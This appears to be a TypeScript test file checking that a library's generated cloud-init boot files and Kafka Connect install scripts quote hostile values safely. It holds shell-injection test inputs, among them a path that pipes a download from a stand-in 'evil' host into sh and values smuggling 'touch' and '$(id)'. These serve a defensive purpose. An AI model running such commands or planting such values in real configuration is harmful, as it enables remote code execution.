// The boot files of machines, as cloud-init reads them, with values that have a meaning in YAML or in a shell.

import { spawnSync } from "node:child_process";
import { parse } from "yaml";
import { CloudInit } from "../../lib";
import { ConnectWorkerHost, LogAnalytics, SplunkDelivery } from "../../stacks";
import { applied, terraformIsThere } from "../support/applied";
import { type JsonObject } from "../support/json";
import { bashIsThere, javaProperties } from "../support/readers";
import { synthesize, testApp } from "../support/synthesis";

interface BootFile {
  readonly path: string;
  readonly content: string;
  readonly encoding?: string;
}

function filesOf(text: string, version: "1.1" | "1.2" = "1.1"): Record<string, string> {
  const { write_files } = parse(text, { version }) as { readonly write_files: readonly BootFile[] };
  return Object.fromEntries(
    write_files.map(({ path, content, encoding }) => [
      path,
      encoding === "b64" ? Buffer.from(content, "base64").toString() : content,
    ]),
  );
}

test.each([
  "a\n",
  "a: b\n\n  c #d\n",
  " a\n",
  "a",
  "a\n\n",
  "a\r\nb\n",
  "a\u0085b\n",
  "a\u2028b\n",
  "größe 😀\n",
  "\tx\n",
  "<<\n",
  "a \n",
])("cloud-init writes a file of %j unchanged", (content) => {
  const text = CloudInit.text({ files: [{ path: "/etc/a", content }] });
  for (const version of ["1.1", "1.2"] as const) expect(filesOf(text, version)["/etc/a"]).toBe(content);
});

const described = terraformIsThere && bashIsThere ? describe : describe.skip;

described("the worker of Kafka Connect", () => {
  const evil = "/opt/x'; curl http://evil|sh; echo '";

  function bootFiles(pluginPath: string, values: Readonly<Record<string, string>>): Record<string, string> {
    const splunk = SplunkDelivery.kafkaConnect({ worker: ConnectWorkerHost.vm(), pluginPath });
    const document = synthesize(new LogAnalytics(testApp(), "logs", { splunk }));
    const variables = Object.keys(document.variable as JsonObject).map((name) => [name, { default: "1" }] as const);
    const { worker_cloud_init } = document.output as JsonObject;
    const needed = { variable: Object.fromEntries(variables), output: { worker_cloud_init } } as JsonObject;
    return filesOf(applied(needed, values).worker_cloud_init ?? "");
  }

  test("creates a folder and reads a secret whose names contain quotes, and runs nothing else", () => {
    const quoted = "ocid1.vaultsecret.oc1..a\"'; touch /tmp/x; echo '";
    const files = bootFiles(evil, { kafka_token_secret_ocid: quoted, kafka_url: `https://a/b'$(id).tgz` });
    const scripts = Object.entries(files).filter(([, content]) => content.startsWith("#!"));
    expect(scripts.length).toBeGreaterThan(2);
    for (const [, content] of scripts) {
      expect(spawnSync("bash", ["-n"], { input: content, encoding: "utf8" })).toMatchObject({ status: 0, stderr: "" });
    }
    const { "/usr/local/bin/install-kafka": install = "", "/usr/local/bin/fetch-kafka-secrets": fetch = "" } = files;
    expect(run(install, /^mkdir -p '.*$/m, "mkdir")).toEqual(["-p", evil]);
    expect(run(install, /^from=.*$/m)).toEqual([`https://a/b'$(id).tgz`]);
    expect(run(fetch, /(?<=^secret_token=\$\()read_secret .*(?=\)$)/m, "read_secret")).toEqual([quoted]);
    expect(javaProperties(files["/etc/kafka-connect/connect-distributed.properties"] ?? "")["plugin.path"]).toBe(evil);
  });

  test("fails for an input of two lines, which could add anything to the file", () => {
    expect(() => bootFiles("/opt/kafka/plugins", { kafka_url: "https://a/b.tgz\nruncmd: [id]" })).toThrow(
      /pattern did not match/,
    );
  });
});

/** The arguments that a line of a script passes to a command, or the value that it gives its variable. */
function run(script: string, line: RegExp, command?: string): string[] {
  const [found = ""] = line.exec(script) ?? [];
  const print = "printf '%s\\0'";
  const text = command === undefined ? `${found}; ${print} "$from"` : `${command}() { ${print} "$@"; }; ${found}`;
  return spawnSync("bash", ["-c", text], { encoding: "utf8" }).stdout.split("\0").slice(0, -1);
}
